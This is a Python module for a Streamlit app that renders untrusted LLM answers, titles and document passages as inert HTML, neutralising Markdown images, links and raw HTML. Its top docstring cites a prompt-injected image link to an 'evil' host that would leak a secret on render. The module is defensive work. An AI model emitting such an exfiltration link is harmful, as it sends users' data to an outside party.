"""Safe rendering of text we do not control: answers, document text, file names, titles.

Nothing in such text may make the browser fetch or open anything (OWASP LLM05): a
prompt-injected ``![x](https://evil/?q=secret)`` would leak data the moment it renders. Two
ways, and no hand-written Markdown parsing in either:

- **Answers and questions** go through a real CommonMark parser (markdown-it-py, the
  ``commonmark`` preset plus tables and strikethrough) with raw HTML off and our own renderer
  for the two constructs that can reach out: an image becomes its alt text, a link becomes its
  text followed by the target in plain text (:func:`answer_html`). Bare URLs are not linkified.
  The HTML we produce has no ``src``, ``href`` or event attribute at all; it is shown with
  ``st.html`` (which sanitizes again with DOMPurify). A partial answer is rendered the same
  way at every streamed piece, so no prefix of a stream is ever unsafe.
- **Short texts shown inside Streamlit's own Markdown** (widget labels, titles, captions: file
  names, source names, conversation titles) are made literal with :func:`literal`: every ASCII
  punctuation character is backslash-escaped, which CommonMark defines as "this character, as
  text" — so no link, image, autolink, emphasis or directive can form (tested against the
  parser: the rendering is exactly the escaped text).
- **Document passages** are plain text with the supporting sentences marked
  (:func:`passage_html`).
"""

from __future__ import annotations

import html
import re
import string
from collections.abc import Iterable, Sequence
from typing import Any

from markdown_it import MarkdownIt
from markdown_it.renderer import RendererHTML
from markdown_it.token import Token
from markdown_it.utils import EnvType, OptionsDict

_PUNCTUATION = frozenset(string.punctuation)
_CITE = re.compile(r"\[(\d{1,3})\]")

# Inserted once per page: the look of answers, chips and marked passages.
STYLE = """<style>
.enclave-md { line-height: 1.6; overflow-wrap: anywhere; }
.enclave-md p { margin: 0 0 0.6em 0; }
.enclave-md pre { background: rgba(128,128,128,0.12); padding: 0.6em; border-radius: 6px;
  white-space: pre-wrap; }
.enclave-md table { border-collapse: collapse; }
.enclave-md td, .enclave-md th { border: 1px solid rgba(128,128,128,0.35); padding: 2px 6px; }
.enclave-cite { display: inline-block; min-width: 1.3em; padding: 0 0.35em; margin: 0 1px;
  border-radius: 0.7em; background: rgba(255,75,75,0.14); color: inherit; font-size: 0.78em;
  font-weight: 600; line-height: 1.35; text-align: center; vertical-align: 0.15em; }
.enclave-unsupported { text-decoration: underline dotted #d97706; text-underline-offset: 3px;
  background: rgba(217,119,6,0.10); }
.enclave-inert { color: rgba(128,128,128,0.95); }
.enclave-passage { white-space: pre-wrap; line-height: 1.55; font-size: 0.92em;
  max-height: 26em; overflow-y: auto; padding: 0.5em 0.7em; border-radius: 6px;
  background: rgba(128,128,128,0.08); }
.enclave-passage mark { background: #fde68a; color: #111; padding: 0 1px; border-radius: 2px; }
</style>"""


def literal(text: str) -> str:
    """Markdown that displays ``text`` verbatim on one line (labels, titles, captions).

    Whitespace runs become one space (a newline or indentation could start a block); every
    ASCII punctuation character is backslash-escaped, the CommonMark rule for "show this
    character as is"."""
    flat = " ".join(str(text).split())
    return "".join("\\" + ch if ch in _PUNCTUATION else ch for ch in flat)


class _InertRenderer(RendererHTML):
    """markdown-it's HTML renderer with nothing that can fetch or navigate (its rules are the
    methods named after token types)."""

    def image(self, tokens: Sequence[Token], idx: int, options: OptionsDict, env: EnvType) -> str:
        alt = "".join(t.content for t in tokens[idx].children or []) or "image"
        return f'<span class="enclave-inert">[image not shown: {html.escape(alt)}]</span>'

    def link_open(
        self, tokens: Sequence[Token], idx: int, options: OptionsDict, env: EnvType
    ) -> str:
        return '<span class="enclave-link">'

    def link_close(
        self, tokens: Sequence[Token], idx: int, options: OptionsDict, env: EnvType
    ) -> str:
        # Walk back to the opening token to show where the link pointed, as text.
        depth = 0
        for j in range(idx - 1, -1, -1):
            tok = tokens[j]
            if tok.type == "link_close":
                depth += 1
            elif tok.type == "link_open":
                if depth == 0:
                    target = str(tok.attrGet("href") or "")
                    text = "".join(t.content for t in tokens[j + 1 : idx])
                    if target and target != text and f"mailto:{text}" != target:
                        return f'</span> <span class="enclave-inert">({html.escape(target)})</span>'
                    return "</span>"
                depth -= 1
        return "</span>"

    def text(self, tokens: Sequence[Token], idx: int, options: OptionsDict, env: EnvType) -> str:
        return _decorate(tokens[idx].content, env)

    def html_block(
        self, tokens: Sequence[Token], idx: int, options: OptionsDict, env: EnvType
    ) -> str:
        return html.escape(tokens[idx].content)

    def html_inline(
        self, tokens: Sequence[Token], idx: int, options: OptionsDict, env: EnvType
    ) -> str:
        return html.escape(tokens[idx].content)


def _parser() -> MarkdownIt:
    md = MarkdownIt("commonmark", {"html": False, "linkify": False, "typographer": False})
    md.enable(["table", "strikethrough"])
    md.renderer = _InertRenderer(md)
    return md


_MD = _parser()


def _decorate(text: str, env: EnvType) -> str:
    """Escape one text run; mark unsupported sentences; turn known ``[n]`` into chips."""
    unsupported: Sequence[str] = env.get("unsupported", ())
    cites: frozenset[int] = env.get("cites", frozenset())
    spans = _find_all(text, unsupported)
    out: list[str] = []
    pos = 0
    for start, end in spans:
        out.append(_chips(text[pos:start], cites))
        out.append(
            '<span class="enclave-unsupported" title="Not found in the cited sources">'
            f"{_chips(text[start:end], cites)}</span>"
        )
        pos = end
    out.append(_chips(text[pos:], cites))
    return "".join(out)


def _find_all(text: str, needles: Iterable[str]) -> list[tuple[int, int]]:
    spans: list[tuple[int, int]] = []
    for needle in needles:
        needle = needle.strip()
        if len(needle) < 8:
            continue
        start = text.find(needle)
        while start >= 0:
            spans.append((start, start + len(needle)))
            start = text.find(needle, start + len(needle))
    spans.sort()
    merged: list[tuple[int, int]] = []
    for start, end in spans:
        if merged and start < merged[-1][1]:
            continue
        merged.append((start, end))
    return merged


def _chips(text: str, cites: frozenset[int]) -> str:
    out: list[str] = []
    pos = 0
    for m in _CITE.finditer(text):
        n = int(m.group(1))
        if n not in cites:
            continue
        out.append(html.escape(text[pos : m.start()]))
        out.append(f'<span class="enclave-cite" title="Source {n}">{n}</span>')
        pos = m.end()
    out.append(html.escape(text[pos:]))
    return "".join(out)


def answer_html(text: str, *, cites: Iterable[int] = (), unsupported: Sequence[str] = ()) -> str:
    """HTML of Markdown ``text``: CommonMark, inert (no image, link or raw HTML), with the
    citation numbers in ``cites`` as chips and the ``unsupported`` sentences marked."""
    env: dict[str, Any] = {"cites": frozenset(cites), "unsupported": tuple(unsupported)}
    body = _MD.render(text, env)
    return f'<div class="enclave-md">{body}</div>'


def plain_html(text: str) -> str:
    """``text`` as escaped HTML, line breaks kept."""
    return f'<div class="enclave-passage">{html.escape(text)}</div>'


def passage_html(text: str, highlights: Iterable[Sequence[int]] = ()) -> str:
    """A document passage as plain text with the ``(start, end)`` spans marked."""
    spans = sorted(
        (max(0, int(s)), min(len(text), int(e)))
        for s, e, *_ in (tuple(h) for h in highlights)
        if int(e) > int(s)
    )
    out: list[str] = []
    pos = 0
    for start, end in spans:
        if start < pos:
            start = pos
        if start >= end:
            continue
        out.append(html.escape(text[pos:start]))
        out.append(f"<mark>{html.escape(text[start:end])}</mark>")
        pos = end
    out.append(html.escape(text[pos:]))
    return f'<div class="enclave-passage">{"".join(out)}</div>'
